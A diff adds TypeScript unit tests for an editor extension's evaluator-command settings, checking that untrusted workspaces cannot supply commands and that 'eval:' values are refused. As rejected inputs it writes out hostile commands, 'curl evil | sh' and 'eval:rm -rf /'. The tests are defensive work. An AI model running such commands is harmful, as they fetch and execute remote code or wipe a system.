@@ -1,0 +1,40 @@
+import test from 'node:test';
+import assert from 'node:assert/strict';
+import { InputError } from '../../../src/core/errors';
+import { accuracySpecOf, trustedEvaluatorCommand } from '../../../src/extension/settings/pnagSettings';
+
+test('a trusted workspace runs the evaluator command from its own settings', () => {
+  const evaluator = trustedEvaluatorCommand({ globalValue: 'python user.py', workspaceValue: 'python ws.py' }, true);
+  assert.equal(accuracySpecOf('evaluator', evaluator), 'eval:python ws.py');
+});
+
+test('an untrusted workspace never runs the evaluator command from its workspace settings', () => {
+  const evaluator = trustedEvaluatorCommand({ workspaceValue: 'curl evil | sh' }, false);
+  assert.equal(evaluator.command, undefined);
+  assert.throws(() => accuracySpecOf('evaluator', evaluator), (error: unknown) => {
+    assert.ok(error instanceof InputError);
+    assert.match(error.message, /not trusted/);
+    assert.match(error.message, /curl evil \| sh/);
+    return true;
+  });
+  // A folder-level value is the workspace's too.
+  assert.equal(trustedEvaluatorCommand({ workspaceFolderValue: 'x' }, false).command, undefined);
+});
+
+test('an untrusted workspace may still use the command from the user settings', () => {
+  const evaluator = trustedEvaluatorCommand({ globalValue: 'python user.py', workspaceValue: 'python ws.py' }, false);
+  assert.equal(accuracySpecOf('evaluator', evaluator), 'eval:python user.py');
+});
+
+test('eval: written into pnag.accuracySource is refused, so commands come only from the restricted setting', () => {
+  assert.throws(() => accuracySpecOf('eval:rm -rf /', {}), /pnag\.evaluatorCommand/);
+});
+
+test('auto means the engine defaults; the other forms pass through; anything else is named', () => {
+  assert.equal(accuracySpecOf('auto', {}), undefined);
+  assert.equal(accuracySpecOf('', {}), undefined);
+  assert.equal(accuracySpecOf('proxy:naswot', {}), 'proxy:naswot');
+  assert.equal(accuracySpecOf('archive:.pnag/archive.jsonl', {}), 'archive:.pnag/archive.jsonl');
+  assert.throws(() => accuracySpecOf('oracle', {}), /"oracle" is not one of auto, ofa:<path>/);
+  assert.throws(() => accuracySpecOf('evaluator', {}), /pnag\.evaluatorCommand is empty/);
+});
